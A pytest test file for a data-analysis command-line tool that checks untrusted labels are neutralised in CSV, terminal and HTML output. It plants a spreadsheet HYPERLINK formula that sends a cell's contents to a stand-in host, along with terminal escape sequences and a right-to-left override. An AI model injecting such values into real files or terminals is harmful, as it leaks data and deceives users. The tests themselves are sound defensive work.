"""Names of classes, parties and methods that would act on a spreadsheet or a terminal."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from contextlib import closing
from pathlib import Path

import pytest

from consilience.core.errors import visible
from helpers.command_line import Call

pytestmark = pytest.mark.usefixtures("sketched")

FORMULA = '=HYPERLINK("http://example.org/?"&A1;"ill")'


@pytest.fixture
def run(call: Call) -> Path:
    """A run whose classes are a formula and ``-1``."""
    with Path("clinics.csv").open(newline="") as file:
        header, *rows = csv.reader(file)
    with Path("clinics.csv").open("w", newline="") as file:
        named = ([*row[:-1], {"yes": FORMULA, "no": "-1"}[row[-1]]] for row in rows)
        csv.writer(file).writerows([header, *named])
    result = call("run", "clinics.toml", "--out", "run")
    assert result.exit_code == 0, result.output
    return Path("run")


def clear_the_screen(run: Path, name: str) -> None:
    """Write an escape sequence before a name wherever the stored run has it, as no run here does."""
    path = run / "config.json"
    path.write_text(path.read_text().replace(f'"{name}"', f'"\\u001b[2J{name}"'))
    with closing(sqlite3.connect(run / "ledger.sqlite")) as ledger, ledger:
        for (table,) in ledger.execute(
            "SELECT name FROM sqlite_master WHERE type = 'table'"
        ).fetchall():
            for _, column, *_ in ledger.execute(f"PRAGMA table_info({table})").fetchall():
                if column in ("party", "method"):
                    update = f"UPDATE {table} SET {column} = ? WHERE {column} = ?"
                    ledger.execute(update, (f"\x1b[2J{name}", name))


def test_a_spreadsheet_computes_no_class(call: Call, run: Path) -> None:
    rows = ("predict", run, "--party", "north", "--method", "local", "clinics.csv")
    told = call(*rows).stdout
    header, *answers = csv.reader(io.StringIO(told))
    assert header == ["prediction", "-1", f"'{FORMULA}"]
    assert {answer[0] for answer in answers} == {"-1", f"'{FORMULA}"}
    call(*rows, "--out", "answers.csv")
    assert Path("answers.csv").read_text() == told


def test_a_strangers_model_says_nothing_to_the_terminal(call: Call, run: Path) -> None:
    path = run / "models/local/seed-0/north/model.json"
    about = json.loads(path.read_text())
    path.write_text(json.dumps({**about, "classes": ["\x1b[2J", "\u202e@SUM(A1)"]}))
    result = call("predict", run, "--party", "north", "--method", "local", "clinics.csv")
    assert result.exit_code == 0, result.output
    assert visible(result.output) == result.output
    assert next(csv.reader(io.StringIO(result.stdout))) == [
        "prediction", "\\x1b[2J", "\\u202e@SUM(A1)",
    ]  # fmt: skip


def test_tables_pages_and_errors_say_what_there_is(call: Call, run: Path) -> None:
    clear_the_screen(run, "south")
    for code, *words in (
        (0, "compare", run, run),
        (0, "report", run),
        (0, "resume", run),
        (2, "predict", run, "--party", "\x1b", "x.csv"),
    ):
        result = call(*words)
        assert result.exit_code == code, result.output
        assert visible(result.output) == result.output, words
    page = (run / "report.html").read_text()
    assert visible(page) == page and "\\x1b[2Jsouth" in page


def test_a_strangers_label_is_refused_as_it_is_seen(call: Call, run: Path) -> None:
    clear_the_screen(run, "uwa")
    for command in ("compare", "report", "resume"):
        result = call(command, run)
        assert result.exit_code == 1, command
        assert visible(result.output) == result.output and "\\x1b[2Juwa" in result.output
